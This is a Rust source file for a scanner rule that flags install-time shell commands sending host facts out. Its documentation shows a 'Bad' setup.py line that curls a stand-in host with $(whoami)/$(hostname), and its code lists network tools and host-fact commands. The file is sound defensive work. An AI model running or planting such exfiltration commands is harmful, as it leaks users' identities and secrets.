//! ## What it detects
//!
//! A command that runs unasked and names both a network tool and something of this host: `curl http://.../$(whoami)`, `nslookup` of a name with the host's in it, an upload of a file.
//!
//! ## Why it is bad
//!
//! It is what a package does that wants to know which machines it reached, or that steals; a shell needs one line for it.
//!
//! ## Innocent lookalikes
//!
//! Build scripts download with `curl`; they put no host name, user name or environment into the request.
//!
//! ## Bad
//!
//! ```python setup.py
//! import os
//! os.system('curl http://x.example.invalid/$(whoami)/$(hostname)')
//! ```
//!
//! ## Good
//!
//! ```python setup.py
//! import os
//! os.system('curl -O http://x.example.invalid/source.tgz')
//! ```

use fondaco_python::scripts::{Act, acts, command_acts};
use fondaco_python::{Api, Taint};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity, Trigger};

use crate::commands::commands;
use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("command-exfiltration"),
    title: "a command sends facts about the host out",
    severity: Severity::Critical,
    confidence: Confidence::High,
    behaviour: Some(Behaviour::Exfiltration),
    weight: 2.2,
    check,
};

fn check(package: &Package<'_>, hits: &mut Hits) {
    const FACTS: Taint = Taint::HOST;
    for (unit, call) in package.calls().filter(|(_, call)| call.api == Some(Api::Shell)) {
        let texts = call.texts();
        let joined = texts.join(" ").to_ascii_lowercase();
        let taint = call.args.first().map_or(Taint::NONE, |command| {
            command.as_list().unwrap_or_default().iter().fold(command.taint, |taint, item| taint | item.taint)
        });
        let commands: Vec<String> = commands(call).iter().map(|text| text.to_ascii_lowercase()).collect();
        let tainted = taint.has(FACTS | Taint::ALL_VARIABLES | Taint::SECRET);
        let is_unasked = call.trigger.is_some_and(Trigger::is_unasked) && joined.len() < 20_000;
        let acts = || texts.iter().any(|text| command_acts(text).contains(&Act::Send));
        if is_unasked && (commands.iter().any(|text| sends(text) && (tainted || tells(text))) || acts()) {
            hits.call(unit, call, "a command that sends something of this host");
        }
    }
    for unit in package.units().filter(|unit| unit.layer > 0 && unit.trigger.is_some_and(Trigger::is_unasked)) {
        let text = unit.text.to_ascii_lowercase();
        let is_shell = unit.language == fondaco_python::Language::Shell && text.len() < 20_000;
        if is_shell && sends(&text) && tells(&text) || acts(unit.language, &unit.text).contains(&Act::Send) {
            hits.line(unit, 1, "a hidden command that sends something of this host");
        }
    }
}

/// A tool that talks to the network, and whom it talks to.
fn sends(text: &str) -> bool {
    const TOOLS: [&str; 14] = [
        "curl", "wget", "nslookup", "dig", "ping", "nc", "invoke-webrequest", "invoke-restmethod", "iwr", "curl.exe",
        "rsync", "scp", "ncat", "netcat",
    ];
    let mut words = text.split(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&' | '(' | '`' | '"' | '\'' | '/'));
    words.any(|word| TOOLS.contains(&word)) && text.contains('.')
}

/// What a shell puts in of the host it runs on.
fn tells(text: &str) -> bool {
    const FACTS: [&str; 16] = [
        "whoami", "hostname", "env", "printenv", "id", "uname", "pwd", "ls", "cat", "ifconfig", "ip", "base64", "set",
        "ps", "netstat", "tar",
    ];
    let substituted = |mark: &str| {
        text.split(mark).skip(1).any(|rest| {
            let word = rest.trim_start().split(|c: char| !c.is_ascii_alphanumeric()).next().unwrap_or_default();
            FACTS.contains(&word)
        })
    };
    let piped = ["env |", "env|", "whoami |", "whoami|", "hostname |", "hostname|", "id |", "printenv |"];
    let variables = ["$user", "$hostname", "%username%", "%computername%", "%userprofile%", "$env:username", "$env:computername"];
    let uploads = ["-d @", "--data @", "--data-binary @", "=@/", "=@~", "=@$", "--upload-file", "--post-file"];
    substituted("$(")
        || substituted("`")
        || piped.iter().chain(&variables).chain(&uploads).any(|mark| text.contains(mark))
}
